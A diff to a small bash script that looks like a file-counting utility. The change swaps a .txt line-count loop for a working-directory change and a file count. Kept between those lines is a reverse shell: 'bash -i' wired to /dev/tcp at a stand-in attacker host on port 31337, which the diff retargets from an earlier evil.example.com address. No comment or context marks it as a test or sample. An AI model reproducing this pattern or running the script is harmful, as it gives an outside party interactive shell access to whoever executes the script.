@@ -1,7 +1,7 @@
 #!/usr/bin/env bash
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
-X=/dev/tcp/evil.example.com/4444
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
+X=/dev/tcp/attacker.example.net/31337
 bash -i >& $X 0>&1
+count=$(ls | wc -l)
+echo "files: $count"
